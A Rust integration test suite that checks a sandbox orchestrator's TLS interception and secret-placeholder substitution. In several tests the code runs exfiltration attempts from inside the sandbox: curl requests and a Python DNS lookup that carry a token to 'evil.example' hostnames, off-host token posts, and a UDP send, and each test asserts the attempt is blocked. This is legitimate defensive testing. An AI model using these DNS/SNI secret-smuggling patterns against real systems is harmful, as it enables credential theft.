//! TLS interception and secrets as a sandbox's user sees them: curl and Python in a Debian
//! image send a placeholder in `Authorization`; the allowed host receives the real value over
//! HTTP/1.1 and HTTP/2, verified against the sandbox's own CA (no `-k` anywhere); the same
//! request to another host is refused before it leaves and that server records nothing; a gzip
//! upload arrives byte for byte; a bypassed (pinned) host is spliced; a real server that fails
//! verification gives a clear 502; plain HTTP, DNS and UDP carrying a placeholder are stopped;
//! and the value is in no file, output, environment or process of the sandbox or the data dir.
//!
//! Real TLS everywhere: the test internet's HTTPS servers (tests/common/https.rs) with the
//! test's own CA, reached only inside the test's network namespaces.

mod common;
#[path = "common/https.rs"]
mod https;
#[path = "common/testnet.rs"]
mod testnet;

use common::*;
use std::sync::atomic::Ordering;
use testnet::*;

/// The secret's value: never to be found in the sandbox, the data dir or any output.
const VALUE: &str = "tok-9f3c1d7e-very-secret";

fn env_for(net: &TestNet, servers: &https::HttpsServers) -> Env {
    let mut env = Env::new();
    env.netns = Some(net.orch_ns());
    let ca = env.file("upstream-ca.pem", &servers.ca_pem);
    env.extra_env.push(("ORCHESTRATOR_DNS_UPSTREAM".into(), format!("{DNS}:53")));
    env.extra_env.push(("ORCHESTRATOR_UPSTREAM_CA".into(), ca.display().to_string()));
    env.extra_env.push(("TEST_API_TOKEN".into(), VALUE.into()));
    env
}

fn debian_sandbox(env: &Env, name: &str, extra: &str) {
    let yaml = format!(
        "apiVersion: orchestrator/v1\nkind: Sandbox\nmetadata:\n  name: {name}\nspec:\n  image: dir:{}\n  isolation: namespace\n  command: [sleep, '3600']\n{extra}",
        debian_rootfs().display()
    );
    let path = env.file(&format!("{name}.yaml"), &yaml);
    env.ok(&["apply", "-f", path.to_str().unwrap()]);
}

const SECRET: &str = "  secrets:\n    - { env: API_TOKEN, provider: env, key: TEST_API_TOKEN, allowHosts: [web.test] }\n  network:\n    tls: { bypass: [pinned.test] }\n";

fn field<'a>(echo: &'a str, key: &str) -> &'a str {
    echo.lines().find_map(|l| l.strip_prefix(&format!("{key}="))).unwrap_or_else(|| panic!("no {key} in {echo:?}"))
}

#[test]
fn a_secret_reaches_only_its_host_over_http1_and_http2_from_curl_and_python() {
    let net = TestNet::new("tls1");
    let servers = https::HttpsServers::start(&net);
    let env = env_for(&net, &servers);
    debian_sandbox(&env, "agent", SECRET);

    // The sandbox sees a placeholder, never the value.
    let (_, placeholder, _) = env.sh("agent", "printf %s \"$API_TOKEN\"");
    assert!(placeholder.starts_with("ORCHESTRATOR_SECRET_") && !placeholder.contains(VALUE), "{placeholder}");

    // curl, HTTP/1.1 and HTTP/2, verifying our leaf against the installed CA.
    for (flag, proto) in [("--http1.1", "HTTP/1.1"), ("--http2", "HTTP/2.0")] {
        let (code, out, err) = env.sh("agent", &format!("curl -sS --fail-with-body {flag} -H \"Authorization: Bearer $API_TOKEN\" https://web.test/echo"));
        assert_eq!(code, 0, "curl {flag}: {out} {err}");
        assert_eq!(field(&out, "proto"), proto);
        assert_eq!(field(&out, "authorization"), format!("Bearer {VALUE}"), "{flag}");
    }
    // Python's own TLS stack (urllib, the distribution's bundle via SSL_CERT_FILE).
    let script = "import os, urllib.request\nr = urllib.request.Request('https://web.test/echo', headers={'Authorization': 'Bearer ' + os.environ['API_TOKEN']})\nprint(urllib.request.urlopen(r).read().decode())";
    let out = env.ok(&["exec", "agent", "--", "python3", "-c", script]);
    assert_eq!(field(&out, "authorization"), format!("Bearer {VALUE}"));
    let web_before = servers.web_requests.load(Ordering::SeqCst);
    assert_eq!(web_before, 3);

    // To another host: refused before it leaves; that server records nothing.
    let (code, out, _) = env.sh("agent", "curl -sS -o /dev/null -D - -H \"Authorization: Bearer $API_TOKEN\" https://other.test/echo");
    assert_eq!(code, 0);
    assert!(out.starts_with("HTTP/2 403") && out.contains("x-orchestrator-blocked: secret API_TOKEN"), "{out}");
    let script = "import os, urllib.request, urllib.error\ntry:\n    urllib.request.urlopen(urllib.request.Request('https://other.test/echo', headers={'Authorization': os.environ['API_TOKEN']}))\nexcept urllib.error.HTTPError as e:\n    print(e.code)";
    assert_eq!(env.ok(&["exec", "agent", "--", "python3", "-c", script]).trim(), "403");
    // In the body to another host: refused mid-request.
    let (_, out, _) = env.sh("agent", "curl -sS -o /dev/null -w '%{http_code}' --data \"token=$API_TOKEN\" https://other.test/echo");
    assert_eq!(out.trim(), "403");
    // The allowed name, sent to another address (curl --resolve skips the sandbox's DNS): the
    // value is not sent there whatever answers.
    let (_, out, _) = env.sh("agent", "curl -sS -o /dev/null -w '%{http_code}' --resolve web.test:443:203.0.113.11 -H \"Authorization: Bearer $API_TOKEN\" https://web.test/echo");
    assert!(matches!(out.trim(), "403" | "502"), "{out}");
    assert_eq!(servers.other_requests.load(Ordering::SeqCst), 0, "the other host received a request");
    // Without a placeholder the other host is reached as usual (intercepted, our CA).
    let (code, out, err) = env.sh("agent", "curl -sS https://other.test/echo");
    assert_eq!(code, 0, "{err}");
    assert_eq!(field(&out, "authorization"), "");

    // A gzip upload passes unchanged.
    let (code, out, err) = env.sh("agent", "head -c 200000 /usr/bin/curl | gzip > /tmp/up.gz && sha256sum /tmp/up.gz | cut -d' ' -f1 && curl -sS --fail-with-body -H 'Content-Encoding: gzip' -H \"Authorization: Bearer $API_TOKEN\" --data-binary @/tmp/up.gz https://web.test/echo");
    assert_eq!(code, 0, "{err}");
    let sent = out.lines().next().unwrap();
    assert_eq!(field(&out, "body-sha256"), sent);
    assert_eq!(field(&out, "content-encoding"), "gzip");

    // The bypassed host is spliced: only the test CA (which never signed our leaves) verifies it.
    env.file("testca.pem", &servers.ca_pem);
    let ca = std::fs::read_to_string(env.dir.path().join("testca.pem")).unwrap();
    let (code, _, err) = env.sh("agent", &format!("printf '%s' '{ca}' > /tmp/testca.pem && curl -sS --cacert /tmp/testca.pem https://pinned.test/echo"));
    assert_eq!(code, 0, "pinned.test is not spliced: {err}");
    let (code, out, err) = env.sh("agent", "curl -v -sS --cacert /tmp/testca.pem https://web.test/echo");
    assert_ne!(code, 0, "web.test was not intercepted: {out} {err}");

    // A real server that fails verification: a clear 502, never an unverified request.
    let before = servers.web_requests.load(Ordering::SeqCst);
    let (_, out, _) = env.sh("agent", "curl -sS -D - -o /dev/null -H \"Authorization: Bearer $API_TOKEN\" https://web.test:8443/echo");
    assert!(out.contains(" 502") && out.contains("x-orchestrator-error:") && out.contains("web.test"), "{out}");
    assert_eq!(servers.web_requests.load(Ordering::SeqCst), before);

    // The placeholder in plain HTTP, a DNS query and a UDP datagram: stopped.
    let http_before = net.http_requests.load(Ordering::SeqCst);
    let (code, _, _) = env.sh("agent", "curl -sS -m 5 -H \"Authorization: $API_TOKEN\" http://web.test/");
    assert_ne!(code, 0);
    assert_eq!(net.http_requests.load(Ordering::SeqCst), http_before, "plain HTTP carried the placeholder out");
    let web_before = servers.web_requests.load(Ordering::SeqCst);
    let (code, _, _) = env.sh("agent", "h=\"x$API_TOKEN.evil.example\"; curl -sS -m 5 --resolve \"$h:443:203.0.113.10\" \"https://$h/echo\"");
    assert_ne!(code, 0);
    assert_eq!(servers.web_requests.load(Ordering::SeqCst), web_before, "a TLS server name carried the placeholder out");
    let dns_before = net.dns_queries.load(Ordering::SeqCst);
    let script = "import os, socket\ntry:\n    socket.getaddrinfo(os.environ['API_TOKEN'].lower() + '.evil.example', 80)\nexcept OSError:\n    pass";
    env.ok(&["exec", "agent", "--", "timeout", "10", "python3", "-c", script]);
    assert_eq!(net.dns_queries.load(Ordering::SeqCst), dns_before, "a DNS query carried the placeholder out");

    // QUIC to an intercepted host is refused at once (HTTP/3 clients fall back to TCP).
    let script = "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('web.test', 443))\ns.send(b'quic?')";
    env.ok(&["exec", "agent", "--", "python3", "-c", script]);

    let events = env.ok(&["events", "agent"]);
    assert!(events.contains("udp to web.test (203.0.113.10:443) denied by tls interception"), "{events}");
    assert!(events.contains("SecretBlocked") && events.contains("secret API_TOKEN") && events.contains("other.test"), "{events}");
    assert!(events.contains("a DNS query") && events.contains("not intercepted") && events.contains("a TLS server name"), "{events}");
    assert!(events.contains("TlsUpstreamFailed"), "{events}");

    // The value is nowhere: not in the data dir, any CLI output, the shim's environment, or the
    // sandbox's files and processes; no private key was ever written.
    let mut outputs = String::new();
    for args in [vec!["describe", "agent"], vec!["get", "-o", "json"], vec!["events", "agent"], vec!["logs", "agent"]] {
        outputs.push_str(&env.ok(&args));
    }
    assert!(!outputs.contains(VALUE), "a CLI output holds the value");
    // Writable disks (sparse ext4 images, mostly holes) are searched from inside below.
    let grep = std::process::Command::new("grep").args(["-rlaF", "--exclude=*.ext4", "-e", VALUE, "-e", "PRIVATE KEY"]).arg(env.data_dir()).output().unwrap();
    assert!(grep.stdout.is_empty(), "the data dir holds the value or a key: {}", String::from_utf8_lossy(&grep.stdout));
    let shim = env.shim_pid("agent");
    let environ = std::fs::read(format!("/proc/{shim}/environ")).unwrap();
    assert!(!String::from_utf8_lossy(&environ).contains(VALUE));
    // Where anything of ours or the sandbox's is written (the image's /usr holds libraries
    // that spell "PRIVATE KEY" themselves).
    let places = "/etc /root /tmp /home /var /run /opt /srv /usr/local";
    let (code, out, err) = env.sh("agent", &format!("grep -rlaF -e \"$(echo {} | base64 -d)\" -e 'PRIVATE KEY' {places}; echo rc=$?", base64(VALUE)));
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.trim(), "rc=1", "the sandbox's files hold the value or a key: {out}");
    let (_, out, _) = env.sh("agent", &format!("cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -cF \"$(echo {} | base64 -d)\"", base64(VALUE)));
    assert_eq!(out.trim(), "0", "a sandbox process's environment holds the value");
}

fn base64(s: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(s)
}

#[test]
fn hostile_secret_specs_are_refused_with_located_errors() {
    let env = Env::new();
    let yaml = format!(
        "apiVersion: orchestrator/v1\nkind: Sandbox\nmetadata:\n  name: bad\nspec:\n  image: dir:{}\n  secrets:\n    - {{ env: A, provider: file, key: relative/path, allowHosts: ['bad host'] }}\n    - {{ env: B, provider: env, key: X, injectInto: [cookies], onViolation: explode }}\n    - {{ env: C, value: in-a-file, allowHosts: [web.test] }}\n  network:\n    tls: {{ intercept: ['*.'] }}\n",
        rootfs().display()
    );
    let path = env.file("bad.yaml", &yaml);
    let out = env.run(&["apply", "-f", path.to_str().unwrap()]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    for want in ["spec.secrets[0].key", "spec.secrets[0].allowHosts[0]", "spec.secrets[1].injectInto[0]", "spec.secrets[1].onViolation", "spec.secrets[2].value", "spec.network.tls.intercept[0]"] {
        assert!(err.contains(want), "no {want} in {err}");
    }
    // A built-in provider whose variable is unset: the start fails and says which.
    let yaml = sandbox_yaml("unset", "  command: [sleep, '60']\n  secrets:\n    - { env: A, provider: env, key: ORCHESTRATOR_TEST_NOT_SET, allowHosts: [web.test] }\n");
    let path = env.file("unset.yaml", &yaml);
    let out = env.run(&["apply", "-f", path.to_str().unwrap()]);
    let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(text.contains("ORCHESTRATOR_TEST_NOT_SET is not set"), "{text}");
}

/// A secret given by value through `POST /v1/sandboxes`: substituted like any other, stored
/// nowhere, and a start without the shim that held it says to re-create the sandbox.
#[test]
fn a_secret_given_by_value_through_the_api_is_held_by_the_shim_only() {
    const GIVEN: &str = "given-by-value-77d1c3";
    let net = TestNet::new("tlsval");
    let servers = https::HttpsServers::start(&net);
    let env = env_for(&net, &servers);
    let root = debian_rootfs();
    let log = std::fs::File::create(env.dir.path().join("serve.log")).unwrap();
    let mut serve = env.cmd(&["serve", "--allow-host-paths", root.parent().unwrap().to_str().unwrap()]).stderr(log).stdout(std::process::Stdio::null()).spawn().unwrap();
    let socket = env.data_dir().join("api.sock");
    env.wait_for("the API socket", std::time::Duration::from_secs(20), || env.data_dir().join("api.token").exists() && socket.exists());
    let token = std::fs::read_to_string(env.data_dir().join("api.token")).unwrap();
    let manifest = serde_json::json!({
        "apiVersion": "orchestrator/v1", "kind": "Sandbox", "metadata": {"name": "byvalue"},
        "spec": {"image": format!("dir:{}", root.display()), "isolation": "namespace", "command": ["sleep", "3600"],
                 "secrets": [{"env": "API_TOKEN", "value": GIVEN, "allowHosts": ["web.test"]}]}
    });
    let post = std::process::Command::new("curl")
        .args(["-sS", "-o", "/dev/null", "-w", "%{http_code}", "--unix-socket"])
        .arg(&socket)
        .args(["-H", &format!("Authorization: Bearer {}", token.trim()), "-H", "Content-Type: application/json", "--data-binary", &manifest.to_string(), "http://o/v1/sandboxes"])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&post.stdout), "201", "{}", String::from_utf8_lossy(&post.stderr));

    let (code, out, err) = env.sh("byvalue", "curl -sS --fail-with-body -H \"Authorization: Bearer $API_TOKEN\" https://web.test/echo");
    assert_eq!(code, 0, "{out} {err}");
    assert_eq!(field(&out, "authorization"), format!("Bearer {GIVEN}"));
    let grep = std::process::Command::new("grep").args(["-rlaF", "--exclude=*.ext4", GIVEN]).arg(env.data_dir()).output().unwrap();
    assert!(grep.stdout.is_empty(), "the data dir holds the value: {}", String::from_utf8_lossy(&grep.stdout));
    assert!(!env.ok(&["get", "byvalue", "-o", "yaml"]).contains(GIVEN));

    // The shim goes; the next start cannot have the value, and says what to do.
    env.ok(&["stop", "byvalue"]);
    let out = env.run(&["start", "byvalue"]);
    let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(!out.status.success() && text.contains("re-create the sandbox"), "{text}");
    let _ = serve.kill();
    let _ = serve.wait();
    let log = std::fs::read_to_string(env.dir.path().join("serve.log")).unwrap();
    assert!(!log.contains(GIVEN), "the server's log holds the value");
}

/// A provider's value changes under `serve`: the running sandbox's requests carry the new one
/// within the refresh interval, with no restart and the same placeholder.
#[test]
fn a_rotated_secret_reaches_the_running_sandbox_without_a_restart() {
    let net = TestNet::new("tlsrot");
    let servers = https::HttpsServers::start(&net);
    let env = env_for(&net, &servers);
    let secret_file = env.file("token", "first-value-1\n");
    let log = std::fs::File::create(env.dir.path().join("serve.log")).unwrap();
    let mut serve = env.cmd(&["serve", "--secret-refresh", "1"]).stderr(log).stdout(std::process::Stdio::null()).spawn().unwrap();
    debian_sandbox(&env, "rot", &format!("  secrets:\n    - {{ env: API_TOKEN, provider: file, key: {}, allowHosts: [web.test] }}\n", secret_file.display()));
    let seen = || {
        let (_, out, _) = env.sh("rot", "curl -sS -H \"Authorization: $API_TOKEN\" https://web.test/echo; printf 'placeholder=%s\\n' \"$API_TOKEN\"");
        (field(&out, "authorization").to_string(), field(&out, "placeholder").to_string())
    };
    let (first, placeholder) = seen();
    assert_eq!(first, "first-value-1");
    let shim = env.shim_pid("rot");
    std::fs::write(&secret_file, "second-value-2\n").unwrap();
    env.wait_for("the rotated value", std::time::Duration::from_secs(20), || seen().0 == "second-value-2");
    assert_eq!(seen().1, placeholder, "the placeholder changed");
    assert_eq!(env.shim_pid("rot"), shim, "the sandbox restarted");
    let _ = serve.kill();
    let _ = serve.wait();
}

/// `onViolation: block-and-stop`: the request is refused and the sandbox stopped, saying why.
#[test]
fn block_and_stop_stops_the_sandbox_that_sent_its_placeholder_elsewhere() {
    let net = TestNet::new("tlsstop");
    let servers = https::HttpsServers::start(&net);
    let env = env_for(&net, &servers);
    debian_sandbox(&env, "strict", "  restartPolicy: Always\n  secrets:\n    - { env: API_TOKEN, provider: env, key: TEST_API_TOKEN, allowHosts: [web.test], onViolation: block-and-stop }\n");
    let (code, out, err) = env.sh("strict", "curl -sS -o /dev/null -w '%{http_code}' -H \"Authorization: $API_TOKEN\" https://other.test/");
    assert!(code == 0 && out.trim() == "403" || code != 0, "{out} {err}");
    env.wait_for("the sandbox to stop", std::time::Duration::from_secs(20), || env.status("strict") == "Exited");
    // Not brought back by its restart policy.
    env.ok(&["apply", "-f", env.dir.path().join("strict.yaml").to_str().unwrap()]);
    assert_eq!(env.status("strict"), "Exited");
    let described = env.ok(&["describe", "strict"]);
    assert!(described.contains("secret API_TOKEN: its placeholder was sent to other.test (onViolation: block-and-stop)"), "{described}");
    assert_eq!(servers.other_requests.load(Ordering::SeqCst), 0);
}
